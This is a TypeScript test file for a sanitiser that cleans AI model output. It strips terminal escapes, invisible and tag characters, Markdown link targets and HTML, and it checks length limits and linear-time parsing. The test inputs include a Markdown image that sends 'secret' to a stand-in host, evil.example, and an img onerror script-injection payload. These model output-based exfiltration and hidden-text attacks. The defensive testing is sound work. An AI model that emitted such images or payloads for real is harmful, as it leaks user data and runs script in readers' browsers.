import { describe, expect, it } from "vitest";
import { cleanModelText } from "./model-text.ts";

describe("cleanModelText", () => {
  it("L14 strips terminal control sequences", () => {
    expect(cleanModelText("\u001b[31mred\u001b[0m \u001b]0;title\u0007text\u001bc")).toBe("red text");
  });

  it("L14 strips invisible characters, also tag characters", () => {
    expect(cleanModelText("a\u200bb\u202ec\u{e0041}d\ufeff")).toBe("abcd");
  });

  it("L14 keeps the words of Markdown images and links, not their targets", () => {
    expect(cleanModelText("see ![chart](https://evil.example/?q=secret) and [here](http://x.example)")).toBe(
      "see chart and here",
    );
  });

  it("L14 removes HTML tags but not a comparison", () => {
    expect(cleanModelText('<img src=x onerror="a()">Ada <b>Low</b>, 3 < 4 and 5 > 2')).toBe(
      "Ada Low , 3 < 4 and 5 > 2",
    );
  });

  it("keeps joiners that scripts need, and bounds the length", () => {
    expect(cleanModelText("می\u200cخواهم")).toBe("می\u200cخواهم");
    expect(cleanModelText("x".repeat(9000), 100)).toHaveLength(100);
  });

  it("is linear on hostile brackets", () => {
    const start = performance.now();
    cleanModelText(`${"[".repeat(50_000)}${"<a".repeat(50_000)}`, 100_000);
    expect(performance.now() - start).toBeLessThan(3000);
  });
});
